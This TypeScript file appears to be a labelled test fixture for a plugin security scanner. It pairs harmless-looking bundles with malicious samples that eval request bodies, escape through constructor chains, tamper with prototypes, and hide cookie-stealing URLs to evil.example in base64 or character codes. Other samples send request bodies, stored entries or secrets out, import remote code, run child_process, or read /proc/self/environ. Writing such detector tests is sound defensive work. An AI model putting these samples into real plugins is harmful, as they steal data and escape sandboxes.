// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these texts are code of plugins.
import type { Manifest } from '../../plugins-sdk/contract/index.ts';
import type { FamilyId } from './rules/families.ts';
import type { ScannedRelease } from './rules/scan-report.ts';

/** Small bundles with a label. Each benign one does something that looks suspicious to a careless eye; each malicious one has one family. */
export interface Labelled {
  name: string;
  release: ScannedRelease;
  /** What is to be found; null: nothing that asks for a second look. */
  family: FamilyId | null;
}

const MANIFEST = {
  name: 'order-mailer',
  version: '1.0.0',
  kind: 'plugin',
  publisher: 'acme-labs',
  title: 'Order mailer',
  description: 'Tells people about their orders.',
  category: 'utilities',
  entry: 'src/index.ts',
  engine: '^0.1.0',
  capabilities: ['kv', 'fetch', 'log', 'secrets', 'events', 'queue', 'notify', 'plugins'].map((name) => ({
    name,
    reason: 'It needs it.',
  })),
  fetchHosts: ['api.example.com', '*.shop.example'],
} as unknown as Manifest;

/** Names that other publishers have. */
export const OTHER_PLUGINS = [
  'brightworks/hello-http',
  'brightworks/order-delivery',
  'northwind/stream-keys',
  'northwind/vpn-accounts',
];

interface Extra {
  manifest?: Partial<Manifest>;
  /** Files of the source map, with their text. */
  sources?: Record<string, string>;
}

/** As esbuild writes a bundle: one function that is called at once. */
function releaseOf(body: string, { manifest, sources }: Extra): ScannedRelease {
  const code = `(() => {\n${body}\nglobalThis.__gatehouse_define(typeof plugin === "undefined" ? {} : plugin);\n})();\n`;
  const sourceMap = sources
    ? JSON.stringify({
        version: 3,
        sources: Object.keys(sources),
        sourcesContent: Object.values(sources),
        names: [],
        mappings: '',
      })
    : null;
  return { manifest: { ...MANIFEST, ...manifest }, code, sourceMap };
}

const route = (body: string, context = '{ kv, log }') =>
  `var plugin = { routes: { "GET /": async (request, ${context}) => {\n${body}\n} } };`;
const good = (name: string, body: string, extra: Extra = {}): Labelled => ({
  name,
  release: releaseOf(body, extra),
  family: null,
});
const bad = (family: FamilyId, name: string, body: string, extra: Extra = {}): Labelled => ({
  name,
  release: releaseOf(body, extra),
  family,
});

export const BENIGN: readonly Labelled[] = [
  good('a greeting', route('return { hello: "world" };')),
  good('counting in kv', route('const { value } = await kv.increment("count"); return { value };')),
  good('a declared host', route('return fetch("https://api.example.com/orders");')),
  good('a host below a wildcard', route('return fetch(`https://eu.shop.example/orders/${request.url.length}`);')),
  good(
    'a host from a constant',
    `const BASE = "https://api.example.com";\n${route('return fetch(BASE + "/v1/orders");')}`,
  ),
  good('a host that the operator enters', route('return fetch(new URL("/orders", config.endpoint));', '{ config }')),
  good('links that nobody fetches', route('return { docs: "https://docs.elsewhere.example/start" };')),
  good(
    'a name of a constructor',
    route('class Refusal extends Error {} const error = new Refusal(); return error.constructor.name;'),
  ),
  good(
    'a copy by the own constructor',
    'class Point { constructor(x) { this.x = x; } clone() { return new this.constructor(this.x); } }\n' +
      route('return new Point(1).clone();'),
  ),
  good('a species of an array', route('const list = [1]; return list.constructor === Array;')),
  good('asking whether a property is there', route('return Object.prototype.hasOwnProperty.call(request, "url");')),
  good('text of a function', route('return Function.prototype.toString.call(Map).includes("native");')),
  good(
    'a class with a prototype of its own',
    `function Old() {} Old.prototype.name = function () { return 1; };\n${route('return new Old().name();')}`,
  ),
  good(
    'a polyfill that fills a gap',
    'if (!Array.prototype.findLast) { Array.prototype.findLast = function (f) { return this.filter(f).pop(); }; }\n' +
      route('return [1].findLast(Boolean);'),
  ),
  good(
    'inheritance of old code',
    'function Sub() {} Sub.prototype = Object.create(Error.prototype); Sub.prototype.constructor = Sub;\n' +
      route('return 1;'),
  ),
  good(
    'exports as esbuild defines them',
    'var __defProp = Object.defineProperty; var __export = (target, all) => { for (var name in all) __defProp(target, name, { get: all[name], enumerable: true }); };\nvar ex = {}; __export(ex, { a: () => 1 });\n' +
      route('return ex.a;'),
  ),
  good('a timer with a function', route('await new Promise((resolve) => setTimeout(resolve, 5)); return 1;')),
  good(
    'the time that something took',
    route('const began = performance.now(); await kv.get("a"); return performance.now() - began;'),
  ),
  good(
    'a loop that waits properly',
    route(
      'const until = Date.now() + 50; while (Date.now() < until) { await new Promise((r) => setTimeout(r, 10)); } return 1;',
    ),
  ),
  good(
    'patterns for everyday',
    route('return /^[\\w.+-]+@[\\w-]+\\.[a-z]{2,}$/i.test("a@b.de") && /^\\d{4}-\\d\\d-\\d\\d$/.test("2030-01-01");'),
  ),
  good(
    'a pattern of semantic versions',
    route('return /^(0|[1-9]\\d*)\\.(0|[1-9]\\d*)\\.(0|[1-9]\\d*)$/.test("1.2.3");'),
  ),
  good('a pattern from text', route('return new RegExp("^[a-z]+$", "i").test("abc");')),
  good('decoding what was sent', route('return JSON.parse(atob(request.headers.get("x-state")));')),
  good(
    'a small picture in base64',
    `var PIXEL = "data:image/png;base64,${'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'.repeat(20)}";\n` +
      route('return PIXEL;'),
  ),
  good(
    'a table of countries',
    `var TABLE = [${Array.from({ length: 300 }, (_, index) => `"country ${index}"`).join(', ')}];\n` +
      route('return TABLE[1];'),
  ),
  good(
    'a table of a checksum',
    `var CRC = [${Array.from({ length: 256 }, (_, index) => String(index * 7919)).join(', ')}];\n` +
      route('return CRC[request.url.length & 255];'),
  ),
  good('texts in Chinese', route('return { title: "订单已发货", body: "感谢您的购买" };'), {
    sources: { 'src/index.ts': 'const title = "订单已发货";' },
  }),
  good('texts in Russian', route('return { title: "x" };'), {
    sources: { 'src/index.ts': 'const title = "Ваш заказ отправлен"; // Русский' },
  }),
  good('families of emoji', route('return 1;'), { sources: { 'src/index.ts': 'const family = "👨‍👩‍👧";' } }),
  good('text of an Arabic translation', route('return 1;'), {
    sources: { 'src/ar.json': '{ "hello": "مرحبا\u200f!" }' },
  }),
  good('a package under MIT', `/*! tiny-lib 1.0, MIT License. */\n${route('return 1;')}`, {
    sources: { 'node_modules/tiny-lib/index.js': '/*! tiny-lib 1.0, MIT License. */' },
  }),
  good('a package under a choice of licences', route('return 1;'), {
    sources: { 'node_modules/jszip/index.js': '/*! Dual licenced under MIT OR GPL-3.0. */' },
  }),
  good('a text about licences', route('return "We sell licences. GPL-3.0 is not one of them.";')),
  good('well-known packages', route('return 1;'), {
    sources: { 'node_modules/lodash/get.js': 'x', 'node_modules/preact/a.js': 'x', 'node_modules/moment/b.js': 'x' },
  }),
  good(
    'the environment of old packages',
    route('return typeof process !== "undefined" && process.env.NODE_ENV === "production";'),
  ),
  good(
    'the global object of old packages',
    `var root = typeof self === "object" && self || Function("return this")();\n${route('return root === undefined;')}`,
  ),
  good('asking for another runtime', route('return typeof Deno !== "undefined" && typeof Deno.version === "object";')),
  good(
    'installation that prepares',
    'var plugin = { hooks: { install: async (event, { kv }) => { await kv.set("schema", 1); } } };',
  ),
  good(
    'a secret that is declared',
    route(
      'const key = await secrets.get("API_KEY"); return fetch("https://api.example.com/me", { headers: { authorization: `Bearer ${key}` } });',
      '{ secrets }',
    ),
  ),
  good(
    'names of secrets without their values',
    route('return { password: "must have a digit", apiKey: "your-api-key-goes-here-1234" };'),
  ),
  good(
    'a hash of a body',
    route(
      'const hash = await crypto.subtle.digest("SHA-256", await request.arrayBuffer()); return new Uint8Array(hash).length;',
    ),
  ),
  good(
    'a nonce that is checked',
    route('const nonce = crypto.randomUUID(); for (const each of [nonce]) { await kv.set(each, 1); } return nonce;'),
  ),
  good(
    'a queue and a loop over its letters',
    route(
      'for (let index = 0; index < 10; index += 1) { await queue.send("mails", { index }); } return 1;',
      '{ queue }',
    ),
  ),
  good(
    'a switch in a loop',
    route(
      'let sum = 0; for (const sign of "+-+") { switch (sign) { case "+": sum += 1; break; default: sum -= 1; } } return sum;',
    ),
  ),
  good(
    'an own variable named like a global',
    route('const fetch = async (url) => ({ url }); return fetch("https://not-sent.example/");'),
  ),
  good('its own names, close to nobody', route('return 1;'), { manifest: { name: 'parcel-tracker' } }),
  good(
    'a cache that it keeps globally',
    route('globalThis.cachedOrders ??= new Map(); return globalThis.cachedOrders.size;'),
  ),
  good(
    'long lines of text',
    `var TERMS = "${'All orders are final; {see} the terms. '.repeat(120)}";\n${route('return TERMS;')}`,
  ),
];

const hex = (text: string) => [...text].map((char) => `\\x${char.charCodeAt(0).toString(16)}`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');
/** Made up, and in parts, so that nobody who scans this repository takes them for real. */
const SECRETS = {
  aws: ['AKIA', 'QZ7XW3MJ', '4HRNTB2K'].join(''),
  github: ['ghp', '_', 'Kd83hfSk29dLq0aZm4xV7wYb1nCt5uR6eJpG'].join(''),
  slack: ['xoxb', '-', '283749102837-4820193847561-', 'aB3dE5fG7hJ9kL1mN3pQ5rS7'].join(''),
  stripe: ['sk', '_live_', '4eC39HqLyjWDarjtT1zdp7dc'].join(''),
  telegram: ['110201543', ':', 'AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw3'].join(''),
  key: [
    '-----BEGIN RSA PRIVATE',
    ' KEY-----\\n',
    'MIIEpAIBAAKCAQEA7bq0mV3cXb1kq9T2Zr4nJ8sWd6fYh0uLx5pGc3vQeKtRaMoB\\n'.repeat(4),
    '-----END RSA PRIVATE',
    ' KEY-----',
  ].join(''),
};

export const MALICIOUS: readonly Labelled[] = [
  bad('dynamic-code', 'eval of what came', route('return eval(await request.text());')),
  bad('dynamic-code', 'eval by another name', route('const run = eval; return run(await request.text());')),
  bad('dynamic-code', 'indirect eval', route('return (0, eval)(await request.text());')),
  bad('dynamic-code', 'Function of what came', route('return new Function("kv", await request.text())(kv);')),
  bad('dynamic-code', 'Function by globalThis', route('return globalThis["Fun" + "ction"](await request.text())();')),
  bad('dynamic-code', 'Function by Reflect', route('return Function.apply(null, [await request.text()])();')),
  bad('dynamic-code', 'a timer with text', route('setTimeout("kv.delete(1)", 10); return 1;')),
  bad(
    'dynamic-code',
    'WebAssembly that was sent',
    route(
      'const { instance } = await WebAssembly.instantiate(await request.arrayBuffer()); return instance.exports.run();',
    ),
  ),
  bad(
    'constructor-chain',
    'the constructor of a constructor',
    route('return kv.get.constructor.constructor("return globalThis")();'),
  ),
  bad(
    'constructor-chain',
    'the constructor of a method of a list',
    route('return [].filter.constructor("return 1")();'),
  ),
  bad('constructor-chain', 'a constructor in parts', route('return log["const" + "ructor"];')),
  bad(
    'constructor-chain',
    'a constructor spelt backwards',
    route('const name = "rotcurtsnoc".split("").reverse().join(""); return kv[name][name];'),
  ),
  bad(
    'constructor-chain',
    'the constructor of async functions',
    route('const Maker = Object.getPrototypeOf(async function () {}).constructor; return new Maker("return 1")();'),
  ),
  bad(
    'constructor-chain',
    'a constructor from codes',
    route('return kv[String.fromCharCode(99, 111, 110, 115, 116, 114, 117, 99, 116, 111, 114)];'),
  ),
  bad(
    'prototype-tampering',
    'a list that tells',
    'const push = Array.prototype.push; Array.prototype.push = function (...all) { return push.apply(this, all); };\n' +
      route('return 1;'),
  ),
  bad(
    'prototype-tampering',
    'a promise that tells',
    `Object.defineProperty(Promise.prototype, "then", { value() {} });\n${route('return 1;')}`,
  ),
  bad(
    'prototype-tampering',
    'pollution of all objects',
    route('const body = {}; body.__proto__.admin = true; return body;'),
  ),
  bad(
    'prototype-tampering',
    'a prototype by way of a value',
    route('({}).constructor.prototype.admin = true; return 1;'),
  ),
  bad(
    'prototype-tampering',
    'a prototype by its getter',
    `const proto = Object.getPrototypeOf([]); proto.map = () => [];\n${route('return 1;')}`,
  ),
  bad(
    'global-tampering',
    'a fetch that tells',
    `const real = globalThis.fetch; globalThis.fetch = (...all) => real(...all);\n${route('return 1;')}`,
  ),
  bad(
    'global-tampering',
    'JSON that tells',
    `const parse = JSON.parse; JSON.parse = (text) => parse(text);\n${route('return 1;')}`,
  ),
  bad(
    'global-tampering',
    'a defined global',
    `Object.defineProperty(globalThis, "crypto", { value: { randomUUID: () => "1" } });\n${route('return 1;')}`,
  ),
  bad('global-tampering', 'chance that is none', `Math.random = () => 0.5;\n${route('return Math.random();')}`),
  bad(
    'obfuscation',
    'names of an obfuscator',
    'var _0x4f2a = ["log"], _0x1b3c = 1, _0x9d8e = 2, _0x77aa = 3, _0x5c6d = 4, _0x0f1e = 5;\n' +
      route('return _0x1b3c + _0x9d8e + _0x77aa + _0x5c6d + _0x0f1e;'),
  ),
  bad(
    'obfuscation',
    'a packer',
    `var unpack = function (p, a, c, k, e, d) { return p; };\n` +
      route('return unpack("0 1", 2, 2, "a|b".split("|"), 0, {});'),
  ),
  bad('obfuscation', 'text in escapes', route(`return kv.get("${hex('customers/passwords')}");`)),
  bad(
    'obfuscation',
    'code in base64',
    route(`return atob("${base64('return fetch("https://evil.example/" + document.cookie)')}");`),
  ),
  bad(
    'obfuscation',
    'a table of numbers',
    route(
      `const codes = [${[...'https://evil.example/collect?x='].map((char) => char.charCodeAt(0)).join(', ')}]; return String.fromCharCode(...codes);`,
    ),
  ),
  bad(
    'obfuscation',
    'numbers behind a mask',
    route(
      `return [${[...'https://evil.example/collect'].map((char) => char.charCodeAt(0) ^ 42).join(', ')}].map((code) => String.fromCharCode(code ^ 42)).join("");`,
    ),
  ),
  bad('obfuscation', 'nothing but signs', `var x = ${'(![]+[])[+[]]+'.repeat(60)}[];\n${route('return x;')}`),
  bad(
    'obfuscation',
    'statements in disorder',
    route(
      'const order = "2|0|1".split("|"); let at = 0; while (true) { switch (order[at++]) { case "0": continue; case "1": continue; case "2": continue; } break; } return 1;',
    ),
  ),
  bad('hidden-characters', 'a line that reads otherwise', route('return 1;'), {
    sources: { 'src/index.ts': 'if (level !== "user\u202e \u2066// only admins\u2069 \u2066") {}' },
  }),
  bad('hidden-characters', 'a name that does not show', route('return 1;'), {
    sources: { 'src/index.ts': 'const isAdmin\u3164 = true;' },
  }),
  bad('hidden-characters', 'a letter of another script', route('return 1;'), {
    sources: { 'src/index.ts': 'function is\u0410dmin() { return true; }' },
  }),
  bad('hidden-characters', 'a break that does not show', route('return 1;'), {
    sources: { 'src/index.ts': 'const pass\u200bword = 1;' },
  }),
  bad('hard-coded-secret', 'a key of AWS', route(`return { key: "${SECRETS.aws}" };`)),
  bad(
    'hard-coded-secret',
    'a token of GitHub',
    route(`return fetch("https://api.example.com", { headers: { authorization: "token ${SECRETS.github}" } });`),
  ),
  bad('hard-coded-secret', 'a token of Slack', `var SLACK = "${SECRETS.slack}";\n${route('return SLACK.length;')}`),
  bad('hard-coded-secret', 'a key of Stripe', `var STRIPE = "${SECRETS.stripe}";\n${route('return STRIPE.length;')}`),
  bad('hard-coded-secret', 'a token of a bot', `var BOT = "${SECRETS.telegram}";\n${route('return BOT.length;')}`),
  bad('hard-coded-secret', 'a private key', `var KEY = "${SECRETS.key}";\n${route('return KEY.length;')}`),
  bad('hard-coded-secret', 'a password', route('return { user: "root", password: "hT7kq2Lm9xWz4Rv8Bn3P" };')),
  bad('slow-pattern', 'a repetition in a repetition', route('return /^(a+)+$/.test(await request.text());')),
  bad(
    'slow-pattern',
    'two ways for each letter',
    route('return /^(?:\\w|\\d)*$/.test(await request.text()) || /^(?:\\w|\\d)*!$/.test("x");'),
  ),
  bad(
    'slow-pattern',
    'an address',
    route('return /^([a-zA-Z0-9])(([\\-.]|[_]+)?([a-zA-Z0-9]+))*@/.test(await request.text());'),
  ),
  bad(
    'undeclared',
    'a host that nobody declared',
    route('await fetch("https://collector.evil.example/", { method: "POST", body: await request.text() }); return 1;'),
  ),
  bad(
    'undeclared',
    'a host in parts',
    route('const host = ["evil", "example"].join("."); await fetch(`https://${host}/x`); return 1;'),
  ),
  bad('undeclared', 'an address within', route('return fetch("http://169.254.169.254/latest/meta-data/");')),
  bad('undeclared', 'a socket', route('return new WebSocket("wss://evil.example/").url;')),
  bad('mining', 'a pool', route('const POOL = "stratum+tcp://pool.example:3333"; return POOL;')),
  bad('mining', 'a miner by name', route('return kv.set("engine", "cryptonight");')),
  bad('mining', 'busy waiting', route('const end = Date.now() + 900; while (Date.now() < end) {} return 1;')),
  bad(
    'mining',
    'a clock in a loop',
    route(
      'const times = []; for (let i = 0; i < 1e6; i += 1) { const began = performance.now(); kv.x; times.push(performance.now() - began); } return times;',
    ),
  ),
  bad(
    'mining',
    'a search for zeros',
    'function sha256(text) { return text; }\n' +
      route('let nonce = 0; while (!sha256("block" + nonce).startsWith("0000")) nonce += 1; return nonce;'),
  ),
  bad(
    'oversized-literal',
    'a payload',
    `var PAYLOAD = "${'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0'.repeat(1_200)}";\n${route('return PAYLOAD.length;')}`,
  ),
  bad(
    'oversized-literal',
    'a payload of numbers',
    `var BYTES = [${'144, 17, 3, '.repeat(14_000)}0];\n${route('return BYTES.length;')}`,
  ),
  bad('dynamic-import', 'an import of what came', route('return import(await request.text());')),
  bad('dynamic-import', 'an import from the net', route('return import("https://evil.example/x.js");')),
  bad('typosquatting', 'a digit for a letter', route('return 1;'), { manifest: { name: 'hel1o-http' } }),
  bad('typosquatting', 'a letter too many', route('return 1;'), { manifest: { name: 'order-deliverry' } }),
  bad('typosquatting', 'm and rn', route('return 1;'), { manifest: { name: 'strearn-keys' } }),
  bad('typosquatting', 'a package with a wrong name', route('return 1;'), {
    sources: { 'node_modules/lodahs/index.js': 'x' },
  }),
  bad('typosquatting', 'a dependency with a wrong name', route('return 1;'), {
    manifest: { dependencies: [{ plugin: 'northwind/vpn-acounts', range: '*' }] },
  }),
  bad('licence', 'a package under the AGPL', route('return 1;'), {
    sources: { 'node_modules/reporter/index.js': '/*! reporter: GNU Affero General Public License v3 */' },
  }),
  bad('licence', 'a package of somebody', route('return 1;'), {
    sources: { 'src/vendor.js': '// Proprietary and confidential. Do not distribute.' },
  }),
  bad(
    'install-behaviour',
    'stored entries that are sent',
    'var plugin = { hooks: { install: async (event, { kv }) => { const all = await kv.list({}); await fetch("https://api.example.com/x", { method: "POST", body: JSON.stringify(all) }); } } };',
  ),
  bad(
    'install-behaviour',
    'secrets that are sent',
    'async function report(ctx) { await fetch("https://api.example.com/x", { method: "POST", body: await ctx.secrets.get("KEY") }); }\nvar plugin = { hooks: { enable: async (event, ctx) => { await report(ctx); } } };',
  ),
  bad(
    'install-behaviour',
    'a message as soon as it is loaded',
    `fetch("https://api.example.com/installed");\n${route('return 1;')}`,
  ),
  bad('host-probing', 'bindings of Node.js', route('return process.binding("fs");')),
  bad('host-probing', 'processes of Node.js', route('return require("child_process").execSync("id");')),
  bad('host-probing', 'the files of the machine', route('return kv.get("/proc/self/environ");')),
];
